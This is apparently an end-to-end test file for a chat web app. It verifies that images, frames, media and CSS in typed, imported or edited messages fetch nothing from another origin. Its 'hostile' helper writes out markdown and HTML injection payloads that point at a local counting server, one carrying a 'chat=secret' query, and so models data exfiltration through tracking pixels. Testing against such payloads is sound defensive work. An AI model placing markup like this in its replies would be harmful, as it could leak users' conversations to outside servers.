"""Nothing leaves the page: images, frames, media and CSS in messages and replies load nothing from elsewhere."""

import http.server
import json
import re
import sqlite3
import threading
import time

import pytest
from playwright.sync_api import expect

from tests.e2e.chatpage import bots, message_button, open_page, send, users, wait_idle

ADDRESS = re.compile(r"'(https?://[^']+)'")  # what a policy violation names
PLACEHOLDERS = ("[external image not shown: a tracking pixel]", "[external image not shown: a photo]")


def hostile(base: str, where: str) -> str:
    """Every way a message could make the page fetch from `base`: the classic way to carry a chat out."""
    return (f"{where} ![a tracking pixel]({base}{where}/markdown.png?chat=secret) and "
            f'<img src="{base}{where}/img.png" alt="a photo"> '
            f'<iframe src="{base}{where}/frame.html"></iframe> '
            f'<audio src="{base}{where}/audio.mp3" controls></audio> '
            f'<video src="{base}{where}/video.mp4" poster="{base}{where}/poster.png" controls></video> '
            f'<span style="background-image: url({base}{where}/inline-css.png)">styled</span> '
            f"<style>#chat {{ background-image: url({base}{where}/style-css.png); }}</style>")


@pytest.fixture
def elsewhere():
    """A second web server on another loopback port that counts every request it gets."""
    hits: list[str] = []

    class Counting(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        do_POST = do_HEAD = do_GET

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Counting)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    server.hits = hits
    server.base = f"http://127.0.0.1:{server.server_address[1]}/"
    yield server
    server.shutdown()
    server.server_close()


def watched_page(chromium, app):
    """The chat page with every request it makes and every policy violation it reports recorded."""
    page = open_page(chromium, app.page_url, new_chat=True)
    page.requested, page.violations, page.blocked = [], [], {}
    page.context.on("request", lambda request: page.requested.append(request.url))
    page.context.on("requestfailed", lambda request: page.blocked.__setitem__(request.url, request.failure))
    page.on("console", lambda message: "Content Security Policy" in message.text
            and page.violations.append(message.text))
    return page


def assert_nothing_left(page, app, elsewhere):
    """Nothing reached the other server, what the page asked elsewhere its policy stopped, and nothing else."""
    time.sleep(1.5)  # room for any late load (media, lazy images)
    assert elsewhere.hits == [], f"the page fetched from elsewhere: {elsewhere.hits}"
    asked = {url: page.blocked.get(url) for url in page.requested if not url.startswith((app.url, "data:", "blob:"))}
    assert set(asked.values()) <= {"csp"}, f"the page asked elsewhere and was not stopped by its policy: {asked}"
    own = [text for text in page.violations if not any(not url.startswith(app.url) for url in ADDRESS.findall(text))]
    assert own == [], f"the policy blocked part of the app's own page: {own}"


def test_a_typed_message_and_its_reply_fetch_nothing_from_elsewhere(chromium, app, elsewhere):
    page = watched_page(chromium, app)
    page.locator("#message textarea").fill(hostile(elsewhere.base, "typed") + " Describe these pictures.")
    page.get_by_role("button", name="Send", exact=True).click()
    wait_idle(page, count=1)

    for placeholder in PLACEHOLDERS:
        expect(users(page).last).to_contain_text(placeholder)
    expect(users(page).last.get_by_text("styled")).to_be_visible()
    assert_nothing_left(page, app, elsewhere)


def test_an_imported_chat_whose_reply_holds_images_fetches_nothing(chromium, app, elsewhere, tmp_path):
    export = tmp_path / "hostile.json"
    now = time.time()
    export.write_text(json.dumps({"format": "chatdesk-export", "version": 1, "conversations": [{
        "id": "c", "title": "Imported pictures", "system_prompt": "", "leaf_id": "r", "messages": [
            {"id": "u", "parent_id": None, "role": "user", "content": hostile(elsewhere.base, "asked"), "created": now},
            {"id": "r", "parent_id": "u", "role": "assistant", "content": hostile(elsewhere.base, "replied"),
             "created": now + 1}]}]}))
    page = watched_page(chromium, app)
    page.click("#import-export")
    with page.expect_file_chooser() as chooser:
        page.click("#import-json")
    chooser.value.set_files(str(export))
    page.locator("#chat-list .row-open", has_text="Imported pictures").first.click()
    expect(bots(page)).to_have_count(1)

    for placeholder in PLACEHOLDERS:
        expect(bots(page).last).to_contain_text(placeholder)
        expect(users(page).last).to_contain_text(placeholder)
    assert_nothing_left(page, app, elsewhere)


def test_a_reply_edited_to_hold_images_fetches_nothing_and_keeps_them_through_another_edit(chromium, app, elsewhere):
    page = watched_page(chromium, app)
    send(page, "Say hello.")
    message_button(page, "Edit").click()
    page.locator("#chat textarea").first.fill(hostile(elsewhere.base, "edited"))
    page.locator('#chat button[aria-label="Submit"]').first.click()
    for placeholder in PLACEHOLDERS:
        expect(bots(page).last).to_contain_text(placeholder)

    message_button(page, "Edit").click()  # the edit box shows the placeholders; what was stored stays
    editor = page.locator("#chat textarea").first
    assert "http" not in editor.input_value().split("<span")[0]
    editor.fill(editor.input_value().replace("edited", "edited twice", 1))
    page.locator('#chat button[aria-label="Submit"]').first.click()
    expect(bots(page).last).to_contain_text("edited twice")
    assert_nothing_left(page, app, elsewhere)
    with sqlite3.connect(f"file:{app.database}?mode=ro", uri=True) as db:
        stored = db.execute("SELECT content FROM messages WHERE content LIKE 'edited twice%'").fetchall()
    assert stored == [(hostile(elsewhere.base, "edited").replace("edited", "edited twice", 1),)], "the images were kept"
